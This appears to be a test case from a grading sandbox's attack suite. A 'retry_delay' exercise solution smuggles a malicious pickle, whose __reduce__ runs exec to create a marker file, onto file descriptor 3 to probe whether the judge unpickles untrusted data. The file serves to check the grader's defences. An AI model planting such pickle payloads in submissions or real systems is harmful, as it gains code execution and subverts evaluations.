# /// attack
# kind = "attack"
# exercise = "03_retries/retry_delay"
# tries = "Sends a pickle that writes a file when it is read, for judges that read pickles."
# wall = "decoder"
# must = "failed"
# says = "no message"
# through = "harm"
# ///
"""`multiprocessing` and many graders send results between processes as pickles (CWE-502)."""

from __future__ import annotations

import os
import pickle
import struct
from typing import Any


class _Bomb:
    def __reduce__(self) -> Any:
        return exec, ("open('@SCRATCH@/pickled', 'w').close()",)


def retry_delay(attempt: int, status: int | None, headers: dict[str, str], *, base: float, **_: float) -> Any:
    """Return the seconds to wait before the next attempt."""
    body = pickle.dumps(_Bomb())
    os.write(3, struct.pack(">I", len(body)) + body)
    return base
